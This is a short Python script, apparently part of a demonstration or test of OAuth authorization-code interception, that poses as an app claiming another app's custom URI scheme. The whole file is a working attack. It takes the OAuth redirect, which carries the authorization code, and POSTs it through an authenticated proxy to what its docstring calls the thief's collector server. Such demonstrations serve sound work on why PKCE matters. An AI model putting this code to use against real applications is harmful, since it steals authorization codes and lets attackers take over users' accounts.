"""An app that claims the custom URI scheme of another (RFC 7636 section 1, RFC 8252 section 8.1).

The operating system starts it as a process of its own, with the redirect as an argument::

    malicious_app.py PROXY_URL COLLECTOR_URL REDIRECT

It hands the redirect to the thief's server. Standard library only, so that it starts fast.
"""

import base64
import http.client
import json
import sys
from urllib.parse import urlsplit


def send(proxy: str, collector: str, redirect: str) -> int:
    """POST the redirect to the collector through the proxy; the status of the answer."""
    through = urlsplit(proxy)
    user = base64.b64encode(f"{through.username}:{through.password}".encode()).decode()
    connection = http.client.HTTPConnection(through.hostname or "", through.port, timeout=10)
    headers = {"Content-Type": "application/json", "Proxy-Authorization": f"Basic {user}"}
    connection.request("POST", collector, json.dumps({"url": redirect}), headers)
    return connection.getresponse().status


if __name__ == "__main__":
    sys.exit(0 if send(*sys.argv[1:4]) < 400 else 1)
